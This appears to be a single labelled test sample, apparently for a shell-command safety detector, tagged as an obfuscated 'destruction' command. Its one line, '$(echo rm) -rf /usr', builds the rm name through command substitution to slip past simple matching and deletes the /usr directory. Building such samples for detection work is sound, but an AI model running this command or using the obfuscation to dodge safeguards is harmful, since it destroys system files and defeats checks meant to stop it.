# description: Produces the rm command name with $(echo rm) and deletes /usr.
# family: destruction
# obfuscated: yes
$(echo rm) -rf /usr
